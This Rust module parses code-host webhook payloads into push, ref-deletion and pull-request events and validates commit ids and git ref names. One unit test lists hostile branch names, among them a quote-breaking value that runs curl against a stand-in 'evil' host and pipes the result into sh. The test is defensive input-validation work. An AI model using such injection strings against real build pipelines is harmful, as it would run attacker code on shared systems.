//! What a delivery says happened, the same for every code host.

use serde_json::Value;

/// Longest text kept out of a payload (commit messages, names).
const TEXT_MAX: usize = 8 * 1024;

/// An event of a code host.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HostEvent {
    /// The hook was set up.
    Ping,
    /// A branch or tag moved.
    Push(Push),
    /// A branch or tag is gone.
    Deleted {
        /// Full ref.
        ref_name: String,
    },
    /// A pull request was opened or got new commits.
    PullRequest(PullRequest),
    /// Nothing to build, and why.
    Ignored(String),
}

/// A branch or tag moved.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Push {
    /// `refs/heads/…` or `refs/tags/…`.
    pub ref_name: String,
    /// The commit before; `None` for a new ref.
    pub before: Option<String>,
    /// The commit now.
    pub after: String,
    /// Message of the newest commit, when the payload has it.
    pub message: String,
    /// Who pushed, for people.
    pub actor: String,
}

/// A pull request to be built.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PullRequest {
    /// Its number.
    pub number: u64,
    /// Its newest commit.
    pub sha: String,
    /// The branch it comes from, in its own repository.
    pub source: String,
    /// The branch it goes to.
    pub target: String,
    /// Whether it comes from another repository.
    pub fork: bool,
    /// Its title.
    pub title: String,
    /// Who opened it, for people.
    pub actor: String,
}

/// Why an authentic delivery cannot be used.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Unusable {
    /// The body is not what the host documents.
    #[error("parse_error: {0}")]
    Parse(String),
    /// It is about another repository than the hook's.
    #[error("wrong_repository: the payload names repository {0}")]
    WrongRepository(String),
}

/// A piece of a payload.
pub(super) struct At<'v>(pub(super) &'v Value);

impl<'v> At<'v> {
    /// Follows keys; missing ones are null.
    pub(super) fn path(&self, keys: &[&str]) -> &'v Value {
        let mut at = self.0;
        for key in keys {
            at = at.get(key).unwrap_or(&Value::Null);
        }
        at
    }

    /// A text that must be there.
    pub(super) fn text(&self, keys: &[&str]) -> Result<&'v str, Unusable> {
        self.path(keys)
            .as_str()
            .ok_or_else(|| Unusable::Parse(format!("`{}` is not a text", keys.join("."))))
    }

    /// A text for people: cut, and empty when it is not there.
    pub(super) fn shown(&self, keys: &[&str]) -> String {
        let text = self.path(keys).as_str().unwrap_or_default();
        let mut end = text.len().min(TEXT_MAX);
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text[..end].to_owned()
    }

    /// A commit id; `None` for the all-zero id (no commit).
    pub(super) fn commit(&self, keys: &[&str]) -> Result<Option<String>, Unusable> {
        commit(self.text(keys)?)
    }
}

/// A commit id: 40 or 64 lower-case hex digits; `None` for all zeros.
pub(super) fn commit(text: &str) -> Result<Option<String>, Unusable> {
    let shaped = matches!(text.len(), 40 | 64)
        && text.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'));
    if !shaped {
        return Err(Unusable::Parse(
            "a commit id is not 40 or 64 hex digits".into(),
        ));
    }
    Ok((!text.bytes().all(|b| b == b'0')).then(|| text.to_owned()))
}

/// A full ref of a branch or tag, as git itself would allow it.
pub(super) fn full_ref(text: &str) -> Result<String, Unusable> {
    let name = text
        .strip_prefix("refs/heads/")
        .or_else(|| text.strip_prefix("refs/tags/"));
    if name.is_some_and(valid_ref_part) && text.len() <= 1_024 {
        Ok(text.to_owned())
    } else {
        Err(Unusable::Parse(
            "the ref is neither refs/heads/… nor refs/tags/…".into(),
        ))
    }
}

/// Whether a text may name a branch.
#[must_use]
pub fn is_branch_name(name: &str) -> bool {
    name.len() <= 1_000 && valid_ref_part(name)
}

/// `git check-ref-format` in short: what may stand behind `refs/heads/`.
fn valid_ref_part(name: &str) -> bool {
    let bad_char =
        |c: char| c.is_control() || matches!(c, ' ' | '~' | '^' | ':' | '?' | '*' | '[' | '\\');
    !name.is_empty()
        && !name.chars().any(bad_char)
        && !name.contains("..")
        && !name.contains("@{")
        && !name.ends_with('.')
        && name
            .split('/')
            .all(|part| !part.is_empty() && !part.starts_with('.') && !part.ends_with(".lock"))
}

/// A push, out of the four facts that every host has.
pub(super) fn push(
    ref_name: &str,
    before: Option<String>,
    after: Option<String>,
    message: String,
    actor: String,
) -> Result<HostEvent, Unusable> {
    let ref_name = full_ref(ref_name)?;
    Ok(match after {
        None => HostEvent::Deleted { ref_name },
        Some(after) => HostEvent::Push(Push {
            ref_name,
            before,
            after,
            message,
            actor,
        }),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_h021_refs_are_full_and_valid_or_refused() {
        for good in [
            "refs/heads/main",
            "refs/heads/refs/heads/main",
            "refs/heads/a\";curl${IFS}evil|sh;\"",
            "refs/tags/v1",
            "refs/heads/-x",
            "refs/heads/<script>",
        ] {
            assert!(full_ref(good).is_ok(), "{good}");
        }
        for bad in [
            "main",
            "HEAD",
            "refs/heads/",
            "refs/heads/a..b",
            "refs/heads/a b",
            "refs/heads/a\0",
            "refs/notes/x",
            "refs/heads/.x",
            "refs/heads/x.lock",
            "refs/heads//x",
            "refs/heads/a\n",
        ] {
            assert!(full_ref(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn a_commit_id_is_hex_and_zeros_mean_none() {
        assert_eq!(commit(&"0".repeat(40)), Ok(None));
        assert_eq!(commit(&"a".repeat(64)), Ok(Some("a".repeat(64))));
        for bad in ["", "abc", &"g".repeat(40), &"A".repeat(40)] {
            assert!(commit(bad).is_err(), "{bad}");
        }
    }
}
